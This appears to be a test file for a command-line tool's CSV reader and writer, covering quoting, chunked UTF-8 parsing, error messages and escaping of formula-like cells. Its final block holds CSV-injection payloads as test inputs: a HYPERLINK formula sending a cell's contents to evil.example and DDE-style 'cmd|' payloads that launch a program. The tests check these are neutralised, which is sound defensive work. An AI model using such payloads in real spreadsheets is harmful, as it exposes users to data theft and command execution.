import { CsvError, csvLine, csvWriter, readCsv } from '../../clients/cli/csv';

/** Parses `text` fed in chunks of `size` bytes. */
const parse = async (text: string | Buffer, size = Infinity) => {
  const bytes = Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8');
  const step = Number.isFinite(size) ? size : Math.max(1, bytes.length);
  const chunks: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += step) chunks.push(bytes.subarray(i, i + step));
  const out = [];
  for await (const record of readCsv(chunks)) out.push(record);
  return out;
};
const fieldsOf = async (text: string | Buffer, size?: number) => (await parse(text, size)).map((r) => r.fields);

describe('the CSV reader', () => {
  const text = 'entry_id,note\r\ne_1,"a, ""quoted"" note"\r\ne_2,"two\nlines"\ne_3,ünïcödé ✓\n';
  const expected = [
    ['entry_id', 'note'],
    ['e_1', 'a, "quoted" note'],
    ['e_2', 'two\nlines'],
    ['e_3', 'ünïcödé ✓'],
  ];

  it('reads quoted fields, doubled quotes, line breaks inside quotes, CRLF and LF, and UTF-8', async () => {
    expect(await fieldsOf(text)).toEqual(expected);
  });

  it('reads the same records whatever the chunk boundaries, a UTF-8 character or a CRLF split included', async () => {
    for (let size = 1; size <= 8; size++) expect([size, await fieldsOf(text, size)]).toEqual([size, expected]);
  });

  it('gives each record the byte offset past its line break, and the line it starts on, whatever the chunk boundaries', async () => {
    const startOf = (row: string) => Buffer.byteLength(text.slice(0, text.indexOf(row)));
    for (let size = 1; size <= 8; size++) {
      const records = await parse(text, size);
      expect([size, records.map((r) => r.end)]).toEqual([size, [startOf('e_1'), startOf('e_2'), startOf('e_3'), Buffer.byteLength(text)]]);
      expect([size, records.map((r) => r.line)]).toEqual([size, [1, 2, 3, 5]]);
    }
  });

  it('reads a file whose line breaks change kind (LF after CRLF, a lone CR)', async () => {
    expect(await fieldsOf('a\r\nb\nc\rd\n')).toEqual([['a'], ['b'], ['c'], ['d']]);
  });

  it('skips a UTF-8 byte-order mark (spreadsheets write one), counting its bytes in the offsets', async () => {
    const records = await parse(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('entry_id\ne_1\n')]), 2);
    expect(records.map((r) => [r.fields, r.end])).toEqual([
      [['entry_id'], 12],
      [['e_1'], 16],
    ]);
  });

  it('returns a last record without a line break, empty fields as empty strings, and an empty line as one empty field', async () => {
    expect(await fieldsOf('a,,""\n\nb')).toEqual([['a', '', ''], [''], ['b']]);
  });

  it.each([
    ['a,"open\n', 'line 1: a quoted field is never closed'],
    ['x\ny\na,"open\nmore\n', 'line 3: a quoted field is never closed'],
    ['a,b"c\n', 'line 1: a quote inside an unquoted field (quote the whole field and double the quote)'],
    ['x\n"two\nlines",b"c\n', 'line 3: a quote inside an unquoted field (quote the whole field and double the quote)'],
    ['a,"b"c\n', 'line 1: text after a closing quote'],
    [Buffer.concat([Buffer.from('name\nAda\nJos'), Buffer.from([0xe9]), Buffer.from('\n')]), 'line 3: the file is not UTF-8 text (save it as "CSV UTF-8")'],
  ])('refuses %j, naming the line', async (input, message) => {
    const error = await parse(input).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CsvError);
    expect((error as CsvError).message).toBe(message);
  });

  it('returns the records before a fault first, those read in the same chunk included (a file cut off inside quotes)', async () => {
    const records: string[][] = [];
    const error = await (async () => {
      for await (const record of readCsv([Buffer.from('a,b\nc,"d"\ne,"cut off')])) records.push(record.fields);
    })().catch((e: unknown) => e);
    expect([records, (error as Error).message]).toEqual([
      [
        ['a', 'b'],
        ['c', 'd'],
      ],
      'line 3: a quoted field is never closed',
    ]);
  });

  it('passes on an error of the stream it reads', async () => {
    async function* failing() {
      yield Buffer.from('a\n');
      throw new Error('EIO');
    }
    await expect(async () => {
      for await (const record of readCsv(failing())) void record;
    }).rejects.toThrow('EIO');
  });
});

describe('csvLine', () => {
  it('quotes only the fields that need it, and reads back to the same fields', async () => {
    const fields = ['plain', 'with, comma', 'with "quote"', 'two\nlines', 'a\rb', '', 'https://x.example/?a=1&b=%2B'];
    const line = csvLine(fields);
    expect(line).toBe('plain,"with, comma","with ""quote""","two\nlines","a\rb",,https://x.example/?a=1&b=%2B\n');
    expect(await fieldsOf(line)).toEqual([fields]);
  });

  it('leaves every field as it is, formula-like ones included', () => {
    expect(csvLine(['=1+1', '-x', '+y', '@z'])).toBe('=1+1,-x,+y,@z\n');
  });
});

describe('csvWriter (OWASP CSV injection)', () => {
  const write = csvWriter(new Set([1]));

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3+cmd|x!A0', `'-2+3+cmd|x!A0`],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', `'＝1+1`],
    ['-', `'-`],
    ['+44 7700 900123', `'+44 7700 900123`],
  ])('writes the text cell %j so that a spreadsheet reads it as text, not a formula', (cell, written) => {
    expect(write(['=ours', cell, 'x'])).toBe(`=ours,${written},x\n`);
  });

  it.each(['+447400123456', '+447700900123', '-12.50', '42', 'Ada', "'=already text", ''])('writes the text cell %j as it is', (cell) => {
    expect(write(['a', cell])).toBe(`a,${cell}\n`);
  });
});
